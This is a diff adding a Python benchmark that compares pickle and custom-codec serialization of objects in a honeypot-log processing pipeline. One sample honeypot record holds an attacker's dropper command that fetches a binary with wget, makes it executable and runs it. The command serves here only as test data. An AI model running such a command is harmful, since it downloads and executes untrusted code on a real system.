@@ -0,0 +1,92 @@
+#!/usr/bin/env python3
+"""
+Compares the encoded size and encode/decode time of objects on the
+multiprocess queues:
+
+ dict+pickle - dict-backed objects carrying a rendered ancestors string,
+     pickled, as objects travelled before the slotted model and codec
+ slots+pickle - the slotted objects, pickled
+ codec - the slotted objects through the ObjectCodec
+"""
+
+import argparse
+from multiprocessing.reduction import ForkingPickler
+import pickle
+import time
+
+from recursid.BaseObject import new_object_id
+from recursid.BuiltinObjects import FluentdRecord, URLObject, \
+        DownloadedObject, LogEntry
+from recursid.ObjectCodec import encode, decode
+
+class DictObject:
+    """
+    A dict-backed stand-in with the same fields as the object it's made from
+    """
+    def __init__(self, obj):
+        self.__dict__.update(obj.__getstate__())
+        self.lineage = None
+        self.ancestors = obj.ancestors
+
+def emit(obj, parent=None):
+    obj.obj_id = new_object_id()
+    obj.ttl = 5 if parent is None else parent.ttl - 1
+    obj.lineage = None if parent is None else parent.lineage_node()
+    return obj
+
+def sample_items():
+    record = emit(FluentdRecord('{"type": "cowrie", "src_ip": "10.0.0.1", '
+            '"input": "cd /tmp; wget http://10.0.0.2/bins/x86 ; '
+            'chmod +x x86; ./x86"}'))
+    url = emit(URLObject("http://10.0.0.2/bins/x86"), record)
+    downloaded = emit(DownloadedObject(url.url, "Wget/1.19",
+            b"\x7fELF" + bytes(range(256)) * 16), url)
+    url2 = emit(URLObject("http://10.0.0.3/i.sh"), downloaded)
+    return {
+            "FluentdRecord": record,
+            "URLObject": url,
+            "DownloadedObject 4KiB": downloaded,
+            "LogEntry depth 4": emit(LogEntry("a log line"), url2),
+            "batch of 32 URLObjects": [emit(URLObject(
+                    "http://10.0.0.2/{}".format(num)), downloaded)
+                    for num in range(32)],
+            }
+
+def dict_version(item):
+    if isinstance(item, list):
+        return [DictObject(obj) for obj in item]
+    return DictObject(item)
+
+def time_per_call(func, arg, rounds):
+    start = time.perf_counter()
+    for _ in range(rounds):
+        func(arg)
+    return (time.perf_counter() - start) / rounds * 1e6
+
+def pickle_dumps(item):
+    # What mp.Queue does with items
+    return bytes(ForkingPickler.dumps(item))
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__,
+            formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--rounds", type=int, default=2000)
+    args = parser.parse_args()
+
+    print("{:<24} {:<13} {:>7} {:>11} {:>11}".format(
+            "item", "format", "bytes", "encode us", "decode us"))
+    for name, item in sample_items().items():
+        for fmt, value, dumps, loads in [
+                ("dict+pickle", dict_version(item), pickle_dumps,
+                    pickle.loads),
+                ("slots+pickle", item, pickle_dumps, pickle.loads),
+                ("codec", item, encode, decode),
+                ]:
+            data = dumps(value)
+            print("{:<24} {:<13} {:>7} {:>11.1f} {:>11.1f}".format(
+                    name, fmt, len(data),
+                    time_per_call(dumps, value, args.rounds),
+                    time_per_call(loads, data, args.rounds)))
+
+if __name__ == "__main__":
+    main()